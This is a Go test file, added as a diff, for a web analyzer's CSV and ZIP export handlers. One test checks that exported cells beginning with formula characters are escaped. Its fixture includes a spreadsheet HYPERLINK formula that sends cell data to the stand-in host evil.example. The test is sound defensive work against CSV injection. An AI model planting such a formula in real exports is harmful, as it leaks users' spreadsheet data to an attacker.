@@ -0,0 +1,126 @@
+package analyzer
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/vinothnada/web-analyzer/internal/types"
+)
+
+func newTestSite(t *testing.T, body string) *httptest.Server {
+	t.Helper()
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, body)
+	}))
+	t.Cleanup(ts.Close)
+	return ts
+}
+
+func Test_writeMetricsCSV(t *testing.T) {
+	result := &types.AnalyzeResultes{
+		HTMLVersion:   "HTML5",
+		Title:         "Hello, world",
+		Headings:      map[string]int{"h1": 1, "h2": 3},
+		InternalLinks: 2,
+		ExternalLinks: 1,
+		HasLoginForm:  true,
+	}
+
+	var buf bytes.Buffer
+	assert.NoError(t, writeMetricsCSV(&buf, "https://example.com", result))
+
+	records, err := csv.NewReader(&buf).ReadAll()
+	assert.NoError(t, err)
+	assert.Len(t, records, 2)
+	assert.Equal(t, metricsCSVHeader, records[0])
+	assert.Equal(t, []string{"https://example.com", "HTML5", "Hello, world", "1", "3", "0", "0", "0", "0", "2", "1", "0", "0", "true"}, records[1])
+}
+
+func Test_writeLinksCSV(t *testing.T) {
+	links := make([]types.LinkResult, csvFlushEvery+1)
+	for i := range links {
+		links[i] = types.LinkResult{Href: fmt.Sprintf("/page/%d", i), Type: types.LinkTypeInternal, Status: types.LinkStatusUnchecked}
+	}
+
+	rr := httptest.NewRecorder()
+	assert.NoError(t, writeLinksCSV(rr, "https://example.com", links))
+	assert.True(t, rr.Flushed)
+
+	records, err := csv.NewReader(rr.Body).ReadAll()
+	assert.NoError(t, err)
+	assert.Len(t, records, len(links)+1)
+	assert.Equal(t, linksCSVHeader, records[0])
+	assert.Equal(t, []string{"https://example.com", "/page/0", "internal", "unchecked", ""}, records[1])
+}
+
+func Test_writeLinksCSV_FormulaCells(t *testing.T) {
+	links := []types.LinkResult{
+		{Href: "https://example.com/", Type: types.LinkTypeExternal, Status: types.LinkStatusUnchecked, AnchorText: `=HYPERLINK("https://evil.example/?d="&A1,"Click")`},
+		{Href: "/a", Type: types.LinkTypeInternal, Status: types.LinkStatusUnchecked, AnchorText: "+1 555 0100"},
+		{Href: "-2", Type: types.LinkTypeInternal, Status: types.LinkStatusUnchecked, AnchorText: "@SUM(A1)"},
+		{Href: "/b", Type: types.LinkTypeInternal, Status: types.LinkStatusUnchecked, AnchorText: "\t=1+1"},
+		{Href: "/c", Type: types.LinkTypeInternal, Status: types.LinkStatusUnchecked, AnchorText: "a = b"},
+	}
+
+	var buf bytes.Buffer
+	assert.NoError(t, writeLinksCSV(&buf, "https://example.com", links))
+	assert.NoError(t, writeMetricsCSV(&buf, "https://example.com", &types.AnalyzeResultes{Title: "=1+1"}))
+
+	reader := csv.NewReader(&buf)
+	reader.FieldsPerRecord = -1
+	records, err := reader.ReadAll()
+	assert.NoError(t, err)
+	assert.Equal(t, `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`, records[1][4])
+	assert.Equal(t, "'+1 555 0100", records[2][4])
+	assert.Equal(t, "'-2", records[3][1])
+	assert.Equal(t, "'@SUM(A1)", records[3][4])
+	assert.Equal(t, "'\t=1+1", records[4][4])
+	assert.Equal(t, "a = b", records[5][4])
+	assert.Equal(t, "'=1+1", records[7][2])
+}
+
+func TestExportBundle(t *testing.T) {
+	ts := newTestSite(t, `<html><head><title>Site</title></head><body><a href="/about">About us</a></body></html>`)
+
+	req := httptest.NewRequest(http.MethodPost, "/api/export/bundle.zip", strings.NewReader(`{"url": "`+ts.URL+`"}`))
+	rr := httptest.NewRecorder()
+	ExportBundle(rr, req)
+
+	assert.Equal(t, http.StatusOK, rr.Code)
+	assert.Equal(t, "application/zip", rr.Header().Get("Content-Type"))
+
+	archive, err := zip.NewReader(bytes.NewReader(rr.Body.Bytes()), int64(rr.Body.Len()))
+	assert.NoError(t, err)
+	assert.Len(t, archive.File, 2)
+
+	files := make(map[string][][]string)
+	for _, f := range archive.File {
+		rc, err := f.Open()
+		assert.NoError(t, err)
+		data, _ := io.ReadAll(rc)
+		rc.Close()
+		records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+		assert.NoError(t, err)
+		files[f.Name] = records
+	}
+
+	assert.Equal(t, "Site", files["metrics.csv"][1][2])
+	assert.Equal(t, []string{ts.URL + "/", "/about", "internal", "unchecked", "About us"}, files["links.csv"][1])
+}
+
+func TestExportLinksCSV_InvalidMethod(t *testing.T) {
+	req := httptest.NewRequest(http.MethodGet, "/api/export/links.csv", nil)
+	rr := httptest.NewRecorder()
+	ExportLinksCSV(rr, req)
+
+	assert.Equal(t, http.StatusMethodNotAllowed, rr.Code)
+}